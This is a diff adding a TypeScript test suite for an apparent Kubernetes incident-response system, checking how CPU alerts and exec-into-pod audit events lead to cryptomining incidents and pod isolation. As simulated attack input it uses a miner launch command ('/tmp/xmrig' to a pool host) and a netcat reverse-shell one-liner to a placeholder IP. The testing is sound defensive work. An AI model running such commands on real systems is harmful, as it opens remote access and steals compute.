@@ -1,0 +1,235 @@
+import { strict as assert } from 'node:assert';
+import { makeDecide } from '../../../functions/decide/handler.ts';
+import { makeDetectCryptomining } from '../../../functions/detect-cryptomining/handler.ts';
+import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
+import { type CpuIncident, cpuIncident, type Monitored } from '../../../local/scenarios/monitoring-incident.ts';
+import { SHOP } from '../../../local/world/seed.ts';
+import { makeMemoryStore } from '../../../shared/adapters/store-memory.ts';
+import { planOf } from '../../../shared/decision/plan.ts';
+import { evaluate } from '../../../shared/detection/evaluate.ts';
+import { RULES } from '../../../shared/detection/registry.ts';
+import { record } from '../../../shared/kubernetes/loose.ts';
+import type { KubeObject } from '../../../shared/kubernetes/object.ts';
+import { TIERS } from '../../../shared/model/ids.ts';
+import type { Incident } from '../../../shared/model/incident.ts';
+import { timeOf } from '../../../shared/model/time.ts';
+import { readPayload } from '../../../shared/sources/registry.ts';
+import { openMemoryStores } from '../../../shared/store/memory.ts';
+import { appliedEntry, decisionKit, envelopeOf, type Kit, podNamed, podsNamed } from '../../kit/decision.ts';
+
+const MINUTE = 60_000;
+
+type Chain = {
+  kit: Kit;
+  /** Sends a notification about CPU use through detect-cryptomining and decide. */
+  notify(of: Partial<CpuIncident> & { on: Monitored }, over?: Record<string, unknown>): Promise<void>;
+  /** Lets somebody run a miner, or a shell, in a pod. */
+  exec(pod: KubeObject, command?: string): Promise<void>;
+};
+
+/** The functions from a notification to an incident, with the rules as they are, over a played cluster. */
+const chainOf = (): Chain => {
+  const kit = decisionKit();
+  const { clock, log } = kit.ports;
+  const decide = makeDecide({ ...kit.ports, rules: new Map(RULES.map((rule) => [rule.id, rule])) });
+  const memory = openMemoryStores({ raw: makeMemoryStore(clock), clock });
+  const publish = async (_topic: string, body: unknown): Promise<string> => {
+    await decide(envelopeOf('findings', 'f', body, clock.now()));
+    return 'f';
+  };
+  const detect = makeDetectCryptomining({ bus: { publish }, clock, log, memory });
+  let count = 0;
+  return {
+    kit,
+    notify: async (of, over = {}) => {
+      count += 1;
+      const whole = cpuIncident({ id: `0.alert-${count}`, cluster: SHOP, startedAt: clock.now(), ...of });
+      const incident = { ...record(whole.incident), ...over };
+      await detect(envelopeOf('cpu', `m-${count}`, { ...whole, incident }, clock.now()));
+    },
+    exec: async ({ metadata: { name, namespace } }, command = '/tmp/xmrig -o pool.example.com:3333') => {
+      const parts = { verb: 'create', resource: 'pods', subresource: 'exec', namespace, name, command };
+      const { signal } = readPayload(auditEntry({ ...SHOP, ...parts, at: timeOf(clock.now()) }), { now: clock.now() });
+      assert.ok(signal !== undefined);
+      for (const finding of evaluate(signal, clock.now())) await publish('findings', finding);
+    },
+  };
+};
+
+const onPod = ({ metadata: { name, namespace = '' } }: KubeObject): Monitored => ({
+  kind: 'pod',
+  namespace,
+  pod: name,
+  container: 'cart',
+});
+const nodeOf = (pod: KubeObject): string => String(pod.spec?.nodeName);
+const hostIdOf = ({ subjects: [subject] }: Incident): string =>
+  (subject?.kind === 'pod' ? subject.host?.id : subject?.uid) ?? '';
+const cart = (kit: Kit): KubeObject => podNamed(kit, 'shop', 'cart-');
+/** UIDs of the pods that the incident's goal plans to take out of service. */
+const actedOn = (incident: Incident): string[] => {
+  const { goal } = incident;
+  const tier = TIERS.find((one) => one === goal?.tier);
+  if (goal === null || tier === undefined) return [];
+  const plan = planOf(incident, tier, goal, { networkPolicy: true });
+  return plan.flatMap(({ step, uid }) => (step === 'quarantine-pod' ? [uid] : [])).sort();
+};
+const rulesIn = ({ summary }: Incident): string[] => summary.maxima.map(({ rule }) => rule);
+const recordedFor = async (kit: Kit, rule: string): Promise<string[]> =>
+  (await kit.ports.stores.findings.list({})).items.flatMap((r) => (r.finding.rule === rule ? [r.incident] : []));
+const SHAPE = 'strong-plateau-hour' as const;
+
+describe('CPU use, as far as the incident', () => {
+  it('joins the open incident on its node, which needs no pod for that', async () => {
+    const { kit, notify, exec } = chainOf();
+    const pod = cart(kit);
+    await exec(pod);
+    const before = await kit.incident();
+    await notify({ on: { kind: 'node', node: nodeOf(pod) }, shape: SHAPE });
+    const name = nodeOf(pod);
+    await notify({ on: { kind: 'instance', instance: hostIdOf(before), zone: 'europe-west1-b', name }, shape: SHAPE });
+    const after = await kit.incident();
+    assert.deepEqual(after.subjects, before.subjects);
+    assert.deepEqual(rulesIn(after), ['exec-into-pod', 'exec-miner', 'sustained-high-cpu']);
+    assert.deepEqual(await recordedFor(kit, 'sustained-high-cpu'), [after.id, after.id]);
+    assert.equal(after.goal?.rev, before.goal?.rev);
+  });
+
+  it('joins the incident that holds the VM also where the alert does not name the cluster', async () => {
+    const { kit, notify, exec } = chainOf();
+    const pod = cart(kit);
+    await exec(pod);
+    const { id, ...before } = await kit.incident();
+    const on = { kind: 'instance', instance: hostIdOf({ id, ...before }), zone: 'europe-west1-b', name: 'n' } as const;
+    await notify({ on, shape: SHAPE }, { metadata: { system_labels: {}, user_labels: {} } });
+    assert.equal((await kit.incident()).id, id);
+    assert.deepEqual(await recordedFor(kit, 'sustained-high-cpu'), [id]);
+  });
+
+  it('without the cluster, is only told of where no incident holds the VM', async () => {
+    const { kit, notify } = chainOf();
+    const on = { kind: 'instance', instance: '4242', zone: 'europe-west1-b', name: 'n' } as const;
+    await notify({ on, shape: SHAPE }, { metadata: {} });
+    const { subjects, target } = await kit.incident();
+    assert.deepEqual(subjects, []);
+    assert.deepEqual(target, { project: 'p1', location: 'europe-west1-b', instance: '4242' });
+  });
+
+  it('without an incident, leads to a snapshot of the node and no further', async () => {
+    const { kit, notify } = chainOf();
+    const node = nodeOf(cart(kit));
+    for (let n = 0; n < 5; n += 1) await notify({ on: { kind: 'node', node }, shape: SHAPE });
+    for (const pod of podsNamed(kit, 'shop', 'cart-')) await notify({ on: onPod(pod), shape: SHAPE });
+    const all = await kit.incidents();
+    assert.equal(all.length, 2);
+    for (const { decision, goal } of all) assert.deepEqual([decision?.tier, goal?.tier], ['snapshot', 'snapshot']);
+  });
+
+  it('is watched where it is only above a threshold', async () => {
+    const { kit, notify } = chainOf();
+    await notify({ on: onPod(cart(kit)) });
+    const { decision, goal } = await kit.incident();
+    assert.deepEqual([decision?.tier, goal], ['observe', null]);
+  });
+
+  // Load that moves to the other replicas of a pod that was cut off must not cut them off as well.
+  for (const order of ['exec first', 'CPU first']) {
+    it(`of another replica does nothing to that one beyond what CPU alone does: ${order}`, async () => {
+      const { kit, notify, exec } = chainOf();
+      const [victim, ...others] = podsNamed(kit, 'shop', 'cart-');
+      assert.ok(victim !== undefined && others.length === 2);
+      const busy = async (): Promise<void> => {
+        for (const pod of others) await notify({ on: onPod(pod), shape: SHAPE });
+      };
+      if (order === 'exec first') await exec(victim);
+      await busy();
+      if (order === 'CPU first') await exec(victim);
+      const incident = await kit.incident();
+      assert.equal(incident.decision?.tier, 'isolate');
+      assert.equal(incident.goal?.options?.freeze, undefined);
+      assert.deepEqual(actedOn(incident), [victim.metadata.uid]);
+      await exec(others[0] ?? victim, 'nc -e /bin/sh 203.0.113.9 4444');
+      assert.deepEqual(actedOn(await kit.incident()), [victim, others[0]].map((pod) => pod?.metadata.uid).sort());
+    });
+  }
+
+  it('names a pod by its name: one made after the event is another', async () => {
+    const { kit, notify } = chainOf();
+    const pod = cart(kit);
+    const made = Date.parse(pod.metadata.creationTimestamp);
+    await notify({ on: onPod(pod), shape: SHAPE, startedAt: made - 3 * MINUTE });
+    assert.deepEqual((await kit.incident()).subjects, []);
+    const tolerated = chainOf();
+    await tolerated.notify({ on: onPod(pod), shape: SHAPE, startedAt: made - 2_000 });
+    assert.equal((await tolerated.kit.incident()).subjects.length, 1);
+  });
+
+  it('of a VM does nothing to the one that was made in its place', async () => {
+    const { kit, notify } = chainOf();
+    const node = kit.cluster.get({ apiVersion: 'v1', kind: 'Node', name: nodeOf(cart(kit)) });
+    const made = Date.parse(node?.metadata.creationTimestamp ?? '');
+    const name = node?.metadata.name ?? '';
+    await notify({ on: { kind: 'instance', instance: '4242', zone: 'europe-west1-b', name }, shape: SHAPE });
+    await notify({ on: { kind: 'node', node: name }, shape: SHAPE, startedAt: made - 3 * MINUTE });
+    const all = await kit.incidents();
+    assert.equal(all.length, 2);
+    for (const { subjects } of all) assert.deepEqual(subjects, []);
+  });
+
+  // The same names in another cluster are other things.
+  it('of another cluster does nothing here', async () => {
+    const { kit, notify } = chainOf();
+    await notify({ on: onPod(cart(kit)), cluster: { ...SHOP, cluster: 'c2' }, shape: SHAPE });
+    assert.deepEqual(await kit.incidents(), []);
+    assert.match(kit.counted.map(({ message }) => message).join(), /cluster p1\/europe-west1\/c2 is not served/);
+  });
+
+  it('without the name of the cluster does nothing here either', async () => {
+    const { kit, notify } = chainOf();
+    const { metadata } = cart(kit);
+    const labels = { project_id: 'p1', namespace_name: 'shop', pod_name: metadata.name };
+    await notify({ on: onPod(cart(kit)), shape: SHAPE }, { resource: { type: 'k8s_container', labels } });
+    const { subjects, goal } = await kit.incident();
+    assert.deepEqual(subjects, []);
+    assert.notEqual(goal?.tier, 'snapshot');
+  });
+
+  // An alert goes on through its look-back window after what caused it is over.
+  it('that goes on after the pod was contained changes nothing more', async () => {
+    const { kit, notify, exec } = chainOf();
+    const pod = cart(kit);
+    await exec(pod);
+    await notify({ on: onPod(pod), shape: SHAPE });
+    const contained = await kit.incident();
+    await kit.carryOut(contained.id, [appliedEntry(kit)]);
+    await kit.clock.advance(50 * MINUTE);
+    await notify({ on: onPod(pod), shape: SHAPE });
+    await notify({ on: { kind: 'node', node: nodeOf(pod) }, shape: SHAPE });
+    const after = await kit.incident();
+    assert.deepEqual([after.goal, after.decision?.asked?.plan], [contained.goal, contained.decision?.asked?.plan]);
+  });
+
+  it('that goes on after a release at most asks', async () => {
+    const { kit, notify } = chainOf();
+    const pod = cart(kit);
+    await notify({ on: onPod(pod), shape: SHAPE });
+    const first = await kit.incident();
+    await kit.carryOut(first.id, [appliedEntry(kit)]);
+    const release = { action: 'release', incident: first.id, reason: 'false alarm', requestedBy: 'ana@example.com' };
+    assert.equal((await kit.ask(release)).state, 'accepted');
+    await kit.clock.advance(5 * MINUTE);
+    await notify({ on: onPod(pod), shape: SHAPE });
+    const [next] = (await kit.incidents()).filter(({ id }) => id !== first.id);
+    assert.deepEqual([next?.decision?.verdict, next?.decision?.tier, next?.goal], ['ask', 'observe', null]);
+  });
+
+  // A resolved alert must not act on what runs well again.
+  it('that has ended leads to nothing', async () => {
+    const { kit, notify } = chainOf();
+    const startedAt = kit.clock.now();
+    const at: Partial<CpuIncident> = { id: '0.same', startedAt, shape: SHAPE };
+    await notify({ ...at, on: onPod(cart(kit)), state: 'closed' });
+    await notify({ ...at, on: onPod(cart(kit)) });
+    assert.deepEqual(await kit.incidents(), []);
+  });
+});
